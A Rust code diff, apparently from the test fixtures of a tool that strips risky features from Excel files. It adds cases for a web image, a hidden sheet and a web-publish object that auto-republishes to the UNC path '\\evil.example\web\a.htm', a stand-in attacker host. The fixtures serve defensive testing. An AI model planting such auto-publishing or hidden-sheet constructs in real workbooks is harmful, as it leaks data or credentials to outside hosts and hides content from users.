@@ -3,9 +3,9 @@
 use super::package::{AV, KEPT, Package};
 use crate::{Planted, Planter};
 
-const NS: &str = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"";
-const BOOK: &str = "xl/workbook.xml";
-const SHEET: &str = "xl/worksheets/sheet1.xml";
+pub(super) const NS: &str = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"";
+pub(super) const BOOK: &str = "xl/workbook.xml";
+pub(super) const SHEET: &str = "xl/worksheets/sheet1.xml";
 
 /// A workbook of one sheet: `book` stands behind its sheets, `rows` in its data, `tail` behind the data.
 pub(super) fn workbook(book: &str, rows: &str, tail: &str) -> Package {
@@ -16,7 +16,7 @@ pub(super) fn workbook(book: &str, rows: &str, tail: &str) -> Package {
         .part(SHEET, &format!("{AV}spreadsheetml.worksheet+xml"), format!("<worksheet {NS}><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{KEPT}</t></is></c></row>{rows}</sheetData>{tail}</worksheet>"))
 }
 
-fn cell(formula: &str) -> String {
+pub(super) fn cell(formula: &str) -> String {
     format!("<row r=\"2\"><c r=\"A2\" t=\"str\"><f>{formula}</f><v>残る値</v></c></row>")
 }
 
@@ -29,7 +29,7 @@ pub(super) fn planted(name: &str, package: &Package, gone: &[&str]) -> Planted {
     }
 }
 
-fn two_sheets(kind: &str, target: &str, content_type: &str, content: &str) -> Package {
+pub(super) fn two_sheets(kind: &str, target: &str, content_type: &str, content: &str) -> Package {
     workbook("", "", "")
         .part(BOOK, &format!("{AV}spreadsheetml.sheet.main+xml"), format!("<workbook {NS}><sheets><sheet name=\"集計\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"残る名前\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/></sheets></workbook>"))
         .rel(BOOK, "rId2", kind, target)
@@ -109,6 +109,10 @@ pub(super) fn planters() -> Vec<Planter> {
         planter!("office.custom-xml", "plain: Power Query", "query.xlsx", workbook("", "", "")
             .rel(BOOK, "rIdX", "customXml", "../customXml/item1.xml").part("customXml/item1.xml", "", "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">ZXZpbA==</DataMashup>"),
             ["DataMashup", "ZXZpbA=="]),
+        planter!("office.web-image", "plain", "webimage.xlsx", super::cases_excel_data::web_image(), ["_webimage", "evil.example", "vm=\"2\""]),
+        planter!("office.web-publish", "plain", "publish.xlsx", workbook("<webPublishing codePage=\"932\"/><webPublishObjects count=\"1\"><webPublishObject id=\"1\" divId=\"a\" destinationFile=\"\\\\evil.example\\web\\a.htm\" autoRepublish=\"1\"/></webPublishObjects>", "", ""),
+            ["webPublish", "evil.example"]),
+        planter!("office.hidden-sheet", "plain: kept and told", "hidden.xlsx", two_sheets("worksheet", "worksheets/sheet2.xml", &format!("{AV}spreadsheetml.worksheet+xml"), &format!("<worksheet {NS}><sheetData/></worksheet>")), []),
     ]
 }
 
